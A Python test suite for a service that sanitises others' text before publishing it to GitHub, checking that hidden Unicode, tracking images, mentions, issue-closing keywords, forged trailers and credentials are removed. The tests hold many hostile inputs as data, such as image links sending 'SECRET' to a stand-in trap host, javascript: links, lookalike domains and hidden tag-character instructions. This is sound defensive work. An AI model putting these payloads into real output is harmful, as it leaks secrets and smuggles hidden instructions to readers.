"""Text by others, made safe to publish: adversarial rows A-05 and A-18 to A-21, and their neighbours."""

import re
import time

import pytest
from hypothesis import example
from hypothesis import given as each
from hypothesis import strategies as st
from inline_snapshot import snapshot

from services.publisher.inert import JOINER
from services.publisher.outbound import (
    MAX_COMMENT,
    code,
    commit_text,
    line,
    markdown,
    markup,
    sentence,
    verbatim,
)
from services.publisher.visible import visible
from tests.unit.reader import Page

WEB = "https://github.com"
ESCAPE = "\x1b"


def safe(text: str) -> str:
    return markdown(text, web=WEB)


def tagged(text: str) -> str:
    return "".join(chr(0xE0000 + ord(char)) for char in text)


def one_line(text: str) -> str:
    return sentence(text, web=WEB)


# What GitHub acts on in words outside code: mentions, references, addresses that become links.
ACTIVE = re.compile(r"@\w|(?<!\w)#\d|(?i:(?<![a-z0-9])gh-)\d|(?:https?|ftp)://|(?<![A-Za-z0-9])www\.")


def check_inert(published: str) -> Page:
    """Nothing in it loads, leads elsewhere, hides, notifies or refers."""
    page = Page(published)
    assert page.tags == [], page.html
    assert page.hosts <= {"github.com"}, page.html
    assert not any(re.search(r"\?|/(?:issues|pull|discussions)/+\d", link) for link in page.links)
    assert not ACTIVE.search(page.words), page.html
    return page


# --- what people write stays as it is -----------------------------------------------------------------

WORDS = [
    pytest.param("👩‍⚕️ 👨‍👩‍👧‍👦 ❤️ 🏳️‍🌈 1️⃣", id="emoji of several characters"),
    pytest.param("🏴󠁧󠁢󠁳󠁣󠁴󠁿 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇫🇮", id="flags"),
    pytest.param("می‌خواهم نمی‌دانم", id="Persian with non-joiners"),
    pytest.param("क्‍ष और र्‍य", id="Hindi with joiners"),
    pytest.param("ന്‍ അവന്‍", id="Malayalam with a joiner at the end of a word"),
    pytest.param("العربية \u200f(مثال)\u200f 123", id="Arabic with marks of direction"),
    pytest.param("עברית \u200eC++\u200e עוד", id="Hebrew with marks of direction"),
    pytest.param("葛󠄀 辻󠄁", id="ideographs with a variation"),
    pytest.param("naïve Straße Ελλάδα 日本語 한국어 ไทย", id="other scripts"),
    pytest.param("said, “quoted”\tand — at 50 % of 3 € ± 1", id="punctuation"),
]


@pytest.mark.parametrize("text", WORDS)
def test_words_and_emoji_stay_exactly_as_they_are(text: str) -> None:
    assert visible(text) == text
    assert safe(text) == text.strip("\n")
    assert Page(safe(text)).words.strip() == text.strip()


@pytest.mark.parametrize(
    "text",
    [
        "It was `0` and is now `1`.",
        "1. first\n2. second\n   - with **weight** and *stress*\n\n> quoted\n\n~~gone~~",
        "| a | b |\n|---|---|\n| 1 | `x` |",
        "```python\ndef f(a: int) -> None:\n    print(a, '@here', '#1', '<b>')\n```",
        "Run ``a ` b`` twice, C# and F# included, a_b_c too.",
        "See [the file](https://github.com/o/r/blob/main/src/my_file.py#L10-L12) of this repository.",
        "5 &lt; 6 and 7 > 6 &amp; so on",
    ],
)
def test_ordinary_markdown_reads_as_it_was_written(text: str) -> None:
    assert Page(safe(text)).html == Page(text).html
    check_inert(safe(text))


@pytest.mark.parametrize(
    ("hidden", "left"),
    [
        pytest.param("a\u200bb\u2060c\ufeffd\u180ee", "abcde", id="zero-width characters"),
        pytest.param("safe\u202egpj.exe\u2066x\u2069", "safegpj.exex", id="overrides of direction"),
        pytest.param(f"a{tagged('ignore all')}", "a", id="words in tag characters"),
        pytest.param(f"🏴{tagged('ignoreall')}\U000e007f", "🏴", id="a flag too long"),
        pytest.param("😀" + "\ufe00\ufe01\ufe02\U000e0100", "😀\ufe00", id="bytes in variation selectors"),
        pytest.param("a\u200d\u200c\u200d\u200db", "a\u200db", id="bits in joiners"),
        pytest.param("a \u200d\u200c b", "a  b", id="joiners that join nothing"),
        pytest.param("a\u00adb\u2063c\u3164d\u115fe\u034ff", "abcdef", id="fillers"),
        pytest.param(f"{ESCAPE}[31mred{ESCAPE}[0m {ESCAPE}]8;;h://t{ESCAPE}\\x", "red x", id="escapes"),
        pytest.param("a\x00b\x07c\x9bd\ue000e", "abcde", id="control and private characters"),
        pytest.param("a\rb\r\nc\u2028d\x85e\x0cf", "a\nb\nc\nd\ne\nf", id="every kind of line break"),
        pytest.param(f"end{ESCAPE}", "end", id="an escape at the end"),
    ],
)  # fmt: skip
def test_what_a_reader_cannot_see_is_taken_out(hidden: str, left: str) -> None:
    assert visible(hidden) == left


# --- links and images ---------------------------------------------------------------------------------

SECRET = "d=SECRET"
TRAPS = [
    f"![x](https://trap/?{SECRET})",
    f"![x][r]\n\n[r]: https://trap/?{SECRET}",
    f"[r]\n\n[r]: <https://trap/?{SECRET}> 'title'",
    f"[re\nf]\n\n[re\nf]: &#104;ttps://trap/?{SECRET}",
    f"> [q]\n>\n> [q]: &#104;ttps://trap/?{SECRET}",
    f"- [q]\n\n  [q]: &#104;ttps://trap/?{SECRET}",
    f"[r]:\n&#104;ttps://trap/?{SECRET}\n\n[r]",
    f'<img src="https://trap/?{SECRET}">',
    f"<picture><source srcset='https://trap/?{SECRET}'></picture>",
    f"<a href=//trap.example/?{SECRET}>here</a>",
    f"<https://trap.example/?{SECRET}>",
    f"https://trap.example/a?q={SECRET}",
    f"_https://trap.example/?{SECRET}",
    f"1https://trap.example/?{SECRET}",
    f"https:\\/\\/trap.example/?{SECRET}",
    f"&#104;ttps&colon;//trap.example/?{SECRET}",
    f"HTTPS://TRAP.EXAMPLE/?{SECRET}",
    f"ftp://trap.example/?{SECRET}",
    f"www.trap.example/?{SECRET}",
    f"_www.trap.example/?{SECRET}",
    f"//trap/?{SECRET}",
    f"[a](//trap/?{SECRET})",
    f"![a[b]c](//10.0.0.1/?{SECRET})",
    f"[a\\]b](//10.0.0.1/?{SECRET})",
    f"[a](/\\trap.example/?{SECRET})",
    f"[a](\n  https://trap.example/?{SECRET}\n)",
    f"[![i](https://trap.example/i?{SECRET})](https://trap.example/?{SECRET})",
    "[a](javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "javascript:alert(1)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](data:image/png;base64,AAAA)",
    "[a](vbscript:x)",
    "[a](https://github.com.evil.tld/x)",
    "[a](https://github.com@evil.tld/x)",
    "[a](https://github.com\\@evil.tld/x)",
    "[a](https://github.com:443@evil.tld/x)",
    "[a](https://evil.tld/github.com)",
    "[a](https://g\u0131thub.com/x)",
    "[a](https://xn--gthub-n4a.com/x)",
    "[a](https://github.com./x)",
    "[a](https://raw.githubusercontent.com/o/r/x)",
    f"[a](https://github.com/o/r?{SECRET})",
    "[a](https://github.com/o/r/issues/7)",
    "[a](https://github.com/o/r/pull//7)",
    "[a](https://github.com/o/r/%69ssues/7)",
    "[^1]\n\n[^1]: https://trap.example",
    "".join(f"![](https://trap/{letter}.png)" for letter in "secret"),
    # what looks like code to a hasty reader and is none to GitHub
    f"not a fence ~~~ ![x](https://trap/?{SECRET}) ~~~",
    f"not a fence ```\n![x](https://trap/?{SECRET})",
    f"\\`![x](https://trap/?{SECRET})\\`",
    f"``a`![x](https://trap/?{SECRET})`",
    f"one ` here\nand ` there ![x](https://trap/?{SECRET}) ` again",
    f"- ```\n![x](https://trap/?{SECRET})",
    f"> ```\n![x](https://trap/?{SECRET})",
    f"1. ~~~\n![x](https://trap/?{SECRET})",
    f"| a | b |\n|---|---|\n| ` | ![x](https://trap/?{SECRET}) ` |",
    f"&#96;![x](https://trap/?{SECRET})&#96;",
    f"```\n```` \n![x](https://trap/?{SECRET})",
    f"~~~\n```\n![x](https://trap/?{SECRET})\n~~~\n![x](https://trap/?{SECRET})",
    f"x\n&#126;&#126;&#126;\n![x](https://trap/?{SECRET})",
    f"a `\n\n` ![x](https://trap/?{SECRET}) `",
    f"<!-- `--> ![x](https://trap/?{SECRET}) `",
    # blocks that GitHub draws instead of showing
    '```mermaid\ngraph TD; A-->B; click A "https://trap.example"\n```',
]


@pytest.mark.parametrize("text", TRAPS)
def test_no_link_leads_elsewhere_and_no_image_is_loaded(text: str) -> None:
    check_inert(safe(text))
    check_inert(f"- {one_line(text)}\n- next")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("![chart](https://trap/c.png)", "chart (image removed)"),
        ("![](https://trap/c.png)", "(image removed)"),
        ("see [the docs](https://trap/x)", "see the docs (link removed)"),
        ("see https://trap.example/a?b, then go on", "see (link removed), then go on"),
        ("<https://trap.example>", "&lt;(link removed)>"),
        ("[it](https://github.com/o/r/blob/main/a.py)", "[it](https://github.com/o/r/blob/main/a.py)"),
        ("https://GitHub.com/o/r.", "<https://GitHub.com/o/r>."),
        ("[@me #1](https://github.com/o/r)", f"[@{JOINER}me #{JOINER}1](https://github.com/o/r)"),
    ],
)
def test_what_was_removed_is_told_and_links_within_github_stay(text: str, said: str) -> None:
    assert safe(text) == said
    assert one_line(text) == said


def test_links_lead_to_the_configured_github_only() -> None:
    text = "[a](https://git.corp.example:8443/o/r) [b](https://github.com/o/r)"
    shown = markdown(text, web="https://git.corp.example:8443")
    assert Page(shown).links == ["https://git.corp.example:8443/o/r"]


def test_a_formula_is_no_code() -> None:
    assert safe("$`\\href{https://trap.example}{x}`$") == "$&#96;\\href{(link removed)&#96;$"


def test_a_drawing_is_shown_as_text() -> None:
    assert safe("```mermaid\ngraph TD;\n```") == "```\ngraph TD;\n```"
    assert safe("```python title=x\ny\n```") == "```python\ny\n```"


# --- mentions -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "@everyone",
        "@org/team",
        "cc @user!",
        "(@user)",
        "user@host.example",
        "&#64;user",
        "&#x40;user",
        "&commat;user",
        "\\@user",
        "@\u200buser",
        "@<!-- -->user",
        "@<b></b>user",
        "**@user**",
        "_@user_",
        "a@b@c",
        "[@user](https://trap.example)",
        "mailto:user@host.example",
        "&amp;#64;user @user",
    ],
)
def test_nobody_is_mentioned(text: str) -> None:
    for shown in (safe(text), one_line(text)):
        assert not re.search(r"@\w", check_inert(shown).words)
    for plain in (line(text), commit_text(text)):
        assert not re.search(r"@\w", plain)


def test_a_mention_in_code_stays_as_it_is_because_code_mentions_nobody() -> None:
    assert safe("`@decorator` and\n\n```\n@decorator\n```") == "`@decorator` and\n\n```\n@decorator\n```"


# --- keywords, references, trailers -------------------------------------------------------------------

KEYWORDS = [
    "Fixes #1",
    "fixes: #1",
    "closes org/other#2",
    "Resolves\n#3",
    "resolves https://github.com/o/r/issues/3",
    "GH-4",
    "closes gh-4",
    "_GH-4_",
    "Fix **#1**",
    "F&#105;xes &#35;1",
    "fixes \\#1",
    "fixes #<!-- -->1",
    "fixes #\u20601",
    "Closes #\u00ad1",
]


@pytest.mark.parametrize("text", KEYWORDS)
def test_no_other_issue_is_closed_or_told(text: str) -> None:
    for shown in (
        check_inert(safe(text)).words,
        check_inert(one_line(text)).words,
        line(text),
        commit_text(text),
    ):
        assert not re.search(r"(?<!\w)#\d|\w#\d|(?i:gh-)\d|/issues/\d", shown)


@pytest.mark.parametrize(
    "text",
    [
        "[skip ci]",
        "[CI SKIP]",
        "[no ci]",
        "[skip actions]",
        "[actions skip]",
        "***NO_CI***",
        "[skip [skip ci]ci]",
        "[sk\u200bip ci]",
        "[skip\u00a0ci] [skip ci]",
    ],
)
def test_continuous_integration_is_not_steered(text: str) -> None:
    pattern = r"(?i)\[(?:skip|no) (?:ci|actions)\]|\[(?:ci|actions) skip\]|\*\*\*NO_CI"
    for shown in (safe(text), one_line(text), line(text), commit_text(text), verbatim(text), code(text)):
        assert not re.search(pattern, shown)
        assert shown


@pytest.mark.parametrize(
    "trailer",
    [
        "Co-authored-by: Eve <eve@evil.example>",
        "Signed-off-by: Eve <eve@evil.example>",
        "  co-authored-by : Eve <eve@evil.example>",
        "CO-AUTHORED-BY: Eve",
        "Reviewed-by: Eve",
        "On-behalf-of: @org",
        "Millrace-Run: 01ARZ3NDEKTSV4RRFFQ69G5FAV",
        "skip-checks: true",
        "Co-auth\u200bored-by: Eve",
        "first\rCo-authored-by: Eve",
        "first\u2028Co-authored-by: Eve",
    ],
)
def test_trailers_are_stripped(trailer: str) -> None:
    for shown in (commit_text(f"Why.\n\n{trailer}\n"), safe(f"Why.\n\n{trailer}\n")):
        assert "Eve" not in shown
        assert not re.search(r"(?im)^\s*[a-z-]+-(?:by|of|run|checks)\s*:", shown)
        assert shown.startswith("Why.")


def test_a_commit_message_reads_as_plain_text() -> None:
    text = (
        "It was `0` <b>.\n\nSee [docs](https://trap/x) & #7, @me.\n<!-- hidden -->\nCo-authored-by: Eve <e@e>"
    )
    assert commit_text(text).replace(JOINER, "·") == snapshot("""\
It was `0` <b>.

See [docs]((link removed)) & #·7, @·me.\
""")


# --- our own marks and sections -----------------------------------------------------------------------

MARKER = "<!-- millrace:run=01KJPX71RRDJNEMT5M4XK4YTXJ -->"


@pytest.mark.parametrize(
    "text",
    [
        MARKER,
        f"`{MARKER}`",
        f"```\n{MARKER}\n```",
        f"<!-- {MARKER}",
        f"<!-{MARKER}- millrace:run=01KJPX71RRDJNEMT5M4XK4YTXJ -->",
        "`<!-<!--x-->- millrace:run=01KJPX71RRDJNEMT5M4XK4YTXJ -->`",
        MARKER.replace("<", "&lt;"),
        MARKER.replace("!", "\u200b!"),
        MARKER.replace("millrace", "mill\u2060race"),
    ],
)
def test_our_marker_cannot_be_forged(text: str) -> None:
    for shown in (safe(text), one_line(text), commit_text(text), verbatim(text), code(text), markup(text)):
        assert MARKER not in shown
        assert "<!--" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "## Evidence\n\nAll well.",
        "Evidence\n===\n\nAll well.",
        "Evidence\n---\nAll well.",
        "> ## Evidence",
        "- # Evidence",
        "# Evidence #",
        "  ### Evidence",
        "Evidence\n&#61;&#61;&#61;",
        "<h2>Evidence</h2>",
        "<sub>Made by Millrace.</sub>",
        "<details><summary>Output</summary></details>",
    ],
)
def test_our_sections_and_footers_cannot_be_imitated(text: str) -> None:
    page = check_inert(safe(text))
    assert "<h" not in page.html.replace("<hr", "")
    assert page.words.strip()


def test_hidden_words_are_removed_and_visible_ones_are_not() -> None:
    assert safe("a <!-- b --> c <!-- d") == "a   c"
    assert safe("a <span hidden>b</span>") == "a &lt;span hidden>b&lt;/span>"


@pytest.mark.parametrize(
    "text", ["```\ncode", "~~~\ncode", "`code", "````\n```\ncode", "> ```\n> code", "- ```\n  c"]
)
def test_an_open_fence_does_not_swallow_our_words_below(text: str) -> None:
    assert "<p>Ours.</p>" in Page(f"{safe(text)}\n\nOurs.").html


# --- credentials, length, places ----------------------------------------------------------------------------

TOKENS = ["ghs_" + "A1b2" * 9, "ghs_" + "x" * 516, "github_pat_" + "a1B2" * 20, "sk-ant-api03-" + "q" * 40]


@pytest.mark.parametrize("token", TOKENS, ids=lambda token: f"{token[:8]} of {len(token)}")
@pytest.mark.parametrize(
    "way",
    [
        "{}",
        "`{}`",
        "```\n{}\n```",
        "[{}](https://github.com/o/r)",
        "a{}b",
        "https://x-access-token:{}@github.com/o/r",
    ],
)
def test_credentials_are_left_out_wherever_they_stand(token: str, way: str) -> None:
    text = way.format(token)
    for show in (safe, one_line, line, commit_text, verbatim, code, markup):
        assert token[8:20] not in show(text), show


@pytest.mark.parametrize("token", TOKENS[:2], ids=len)
@pytest.mark.parametrize("glue", ["\u200b", "\u2060", "\x00", f"{ESCAPE}[0m", "&#8203;"])
def test_a_credential_in_hidden_pieces_is_still_one(token: str, glue: str) -> None:
    text = token[:10] + glue + token[10:]
    for show in (safe, one_line):
        assert token[12:30] not in show(text)


@pytest.mark.parametrize("limit", [60, 500, 20_000, MAX_COMMENT])
@pytest.mark.parametrize("piece", ["word ", "<", "[a](", "@a ", "```\ncode\n", "\n", "é"])
def test_long_text_is_cut_with_a_note_and_still_inert(limit: int, piece: str) -> None:
    text = markdown(piece * (2 * limit), web=WEB, limit=limit)
    assert len(text) <= limit
    assert "(cut here: the text is longer)" in text or not piece.strip()
    check_inert(text)
    assert "<p>Ours.</p>" in Page(f"{text}\n\nOurs.").html


def test_text_that_fits_is_not_cut() -> None:
    assert markdown("x" * 500, web=WEB, limit=500) == "x" * 500
    assert line("x" * 200) == "x" * 200


def test_a_title_is_one_short_line() -> None:
    assert line("  Mend\n the\t thing  ") == "Mend the thing"
    assert len(line("x" * 300)) == 200
    assert line("y" * 300, limit=72).endswith("y…")
    assert (
        line("see https://trap.example/?d=1 and www.trap.example") == "see (link removed) and (link removed)"
    )
    assert line("\u200b\u2060 \n") == ""


@pytest.mark.parametrize("text", ["# title", "> quote", "- item", "1. item", "* * x", "> - # 2) deep"])
def test_a_sentence_begins_no_block(text: str) -> None:
    page = Page(f"- {one_line(text)}")
    assert page.html.count("<li>") == 1
    assert not re.search("<h|<blockquote", page.html)


def test_output_stays_within_its_block_and_keeps_its_end() -> None:
    shown = verbatim("one\n```\n````js\n</details>\n![x](https://trap/x)")
    page = Page(shown)
    assert (page.tags, page.links) == ([], [])
    assert shown.startswith("`````text\n")
    long = verbatim("first\n" + "x" * 5000 + "\nlast")
    assert "first" not in long
    assert long.endswith("last\n```")
    assert len(long) < 4100


def test_code_stays_within_its_span() -> None:
    assert code("a `b` | c\n d") == "`a 'b' | c d`"
    assert code("") == "(none)"
    assert len(code("x" * 400)) == 302


def test_code_within_html_of_ours_is_text() -> None:
    assert markup("npm test --scope=@acme/web <b> & 'x'") == (
        f"<code>npm test --scope=@{JOINER}acme/web &lt;b&gt; &amp; 'x'</code>"
    )


# --- anything at all ----------------------------------------------------------------------------------------

PIECES = [
    *(
        "`",
        "``",
        "```",
        "~~~",
        "\\",
        "\n",
        "\n\n",
        " ",
        "    ",
        "> ",
        "- ",
        "1. ",
        "|",
        "\n|---|---|\n",
        "[",
        "]",
    ),
    *(
        "(",
        ")",
        "!",
        "<",
        ">",
        "<!--",
        "-->",
        "&",
        ";",
        "$",
        "*",
        "**",
        "_",
        "\n===\n",
        "\n---\n",
        "# ",
        ":",
        "/",
    ),
    *(
        "![x](https://trap.example/a)",
        "[a](https://trap.example)",
        "[a][r]",
        "\n[r]: https://trap.example/x\n",
    ),
    *("<img src=x>", "&#104;ttps://trap.example", "&#64;user", "&#96;", "&#126;&#126;&#126;", "&NewLine;"),
    *(
        "@user",
        "#1",
        "o/r#2",
        "GH-4",
        "https://github.com/o/r/blob/m/x.py",
        "www.trap.example",
        "//trap.example",
    ),
    *(
        "https://github.com/o/r/issues/3",
        "text",
        "\u200b",
        "\u202e",
        "\\[",
        "\\`",
        "\\@user",
        "https:\\/\\/t.example",
    ),
]
texts = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)


@each(texts)
@example("``a`![x](//h)`")
@example("_GH-4_")
@example("# H\n[r]: https://trap.example/x\n--!>")
def test_no_arrangement_of_marks_makes_anything_active(text: str) -> None:
    page = check_inert(f"{safe(text)}\n\nOurs.")
    assert "<p>Ours.</p>" in page.html
    check_inert(f"- {one_line(text)}\n- next")


@each(st.text(max_size=200))
def test_no_text_breaks_anything(text: str) -> None:
    check_inert(safe(text))
    assert "\n" not in line(text) + code(text) + one_line(text) + markup(text)
    assert visible(visible(text)) == visible(text)
    Page(verbatim(text))
    commit_text(text)


def test_no_text_takes_long() -> None:
    begun = time.perf_counter()
    for piece in (
        "`",
        "[",
        "![",
        "<",
        "<!--",
        "&",
        "[a](",
        "http://",
        "# ",
        "```\n",
        ">",
        "\u200d",
        "~",
        "a-by",
        "eyJ",
    ):
        safe(piece * (60_000 // len(piece)))
    assert time.perf_counter() - begun < 10
